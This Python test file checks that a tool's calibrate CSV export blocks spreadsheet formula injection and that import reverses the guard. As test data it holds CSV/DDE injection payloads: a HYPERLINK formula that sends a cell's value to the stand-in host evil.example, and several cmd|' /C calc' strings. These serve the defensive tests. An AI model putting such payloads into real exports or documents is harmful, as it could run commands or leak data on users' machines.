"""Issue 33.17: `calibrate --export` CSV cells cannot run as spreadsheet formulas. A real hostile agent
writes an artifact that is a formula; the case's rubric items start with formula characters; the
judge (the real SDK through the loopback Messages-API server) grades them. Every exported cell that
starts with = + - @ tab or CR is guarded with a leading ' (OWASP's rule), the file's first line says
so, `--import` strips the guard again (the labels land on the right items), and a row with an extra
cell is refused."""

from __future__ import annotations

import csv
import io
import json
import sys
import textwrap
from pathlib import Path

from click.testing import CliRunner

from scarbook.cli import main
from scarbook.judge.label_files import guard_cell, unguard_cell
from scarbook.judge.label_store import CalibrationStore
from tests.helpers.judge_server import JUDGE_TIMEOUT_S, judge_server, tool_reply  # noqa: F401

ARTIFACT = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
ITEMS = ['=HYPERLINK("http://evil.example","x")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0',
         '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', 'a plain item']
# (a rubric item's CR is escaped before history keeps it; guard_cell's own test covers a cell starting with one)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NOTE = ("# scarbook: a cell that starts with = + - @ tab or CR has a ' put before it, so a spreadsheet shows it as "
        "text and never runs it as a formula (OWASP's CSV injection rule); scarbook calibrate --import takes it "
        "off again. Fill the label column with PASS or FAIL.")


def test_guard_cell_guards_each_formula_start_and_unguard_cell_undoes_it() -> None:
    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert guard_cell(text) == "'" + text and unguard_cell(guard_cell(text)) == text
    for text in ("1", "a=1", "'quoted", " =1", ""):
        assert guard_cell(text) == text and unguard_cell(text) == text


def _project(root: Path, url: str) -> None:
    agent = root / "agent.py"
    agent.write_text(f"open('out.txt', 'w').write({ARTIFACT!r})\nprint('done')\n")
    (root / "scarbook.yaml").write_text(textwrap.dedent(f"""\
        agent: {{type: command, argv: [{json.dumps(sys.executable)}, {json.dumps(str(agent))}]}}
        runs: 2
        concurrency: 1
        gate: {{mode: point}}
        judge: {{model: claude-sonnet-4-6, base_url: {url}, max_retries: 0, timeout_s: {JUDGE_TIMEOUT_S}, cache: false}}
        """))
    (root / "cases" / "c").mkdir(parents=True)
    rubric = "\n".join(f"      - {json.dumps(item)}" for item in ITEMS)
    (root / "cases" / "c" / "case.yaml").write_text(
        f"id: c\ntask: write out.txt\nchecks:\n  - type: llm_judge\n    artifact: out.txt\n    rubric:\n{rubric}\n")


def _cli(root: Path, *args: str):
    return CliRunner().invoke(main, ["-C", str(root), *args], catch_exceptions=False)


def test_exported_cells_never_start_a_formula_and_import_takes_the_guard_off(tmp_path, judge_server, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-e2e")
    _project(tmp_path, judge_server.url)
    judge_server.default = tool_reply([("PASS", "ok")] * len(ITEMS))
    assert _cli(tmp_path, "eval", "-q").exit_code == 0
    out = tmp_path / "labels.csv"
    res = _cli(tmp_path, "calibrate", "--export", str(out), "--sample", "50")
    assert res.exit_code == 0, res.output
    first, rest = out.read_text(encoding="utf-8").split("\n", 1)
    assert first == NOTE
    rows = list(csv.reader(io.StringIO(rest)))
    assert rows[0] == ["case", "item", "artifact_digest", "judge", "excerpt", "label"]
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) - 1 == len(ITEMS)  # one row per item (both runs wrote the same artifact)
    assert not [c for c in cells if c.startswith(TRIGGERS)], [c for c in cells if c.startswith(TRIGGERS)]
    assert {row[4] for row in rows[1:]} == {"'" + ARTIFACT}
    assert {row[1] for row in rows[1:]} == {("'" + i if i.startswith(TRIGGERS) else i) for i in ITEMS}

    filled = io.StringIO()
    writer = csv.writer(filled, lineterminator="\n")
    writer.writerow(rows[0])
    writer.writerows([*row[:5], "PASS"] for row in rows[1:])
    out.write_text(first + "\n" + filled.getvalue(), encoding="utf-8")
    res = _cli(tmp_path, "calibrate", "--import", str(out))
    assert res.exit_code == 0, res.output + (res.stderr or "")
    store = CalibrationStore(tmp_path / "workspaces" / "history" / "calibration.json")
    try:
        assert sorted({label.item for label in store.labels()}) == sorted(ITEMS)  # the guard is off again
    finally:
        store.close()


def test_a_csv_row_with_an_extra_cell_is_refused(tmp_path, judge_server, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-e2e")
    _project(tmp_path, judge_server.url)
    judge_server.default = tool_reply([("PASS", "ok")] * len(ITEMS))
    assert _cli(tmp_path, "eval", "-q").exit_code == 0
    out = tmp_path / "labels.csv"
    assert _cli(tmp_path, "calibrate", "--export", str(out), "--sample", "3").exit_code == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    lines[3] = lines[3] + ',PASS,=cmd|" /C calc"!A0'
    out.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = _cli(tmp_path, "calibrate", "--import", str(out))
    assert res.exit_code == 2
    assert res.stderr == (f"scarbook: {out} line 4: 2 more cells than the header's 6 columns — a cell holding a "
                          "comma must be quoted; keep the columns `scarbook calibrate --export` wrote\n"
                          f"nothing imported from {out}: fix this line and import it again\n")
    assert not (tmp_path / "workspaces" / "history" / "calibration.json").exists() or \
        CalibrationStore(tmp_path / "workspaces" / "history" / "calibration.json").labels() == []
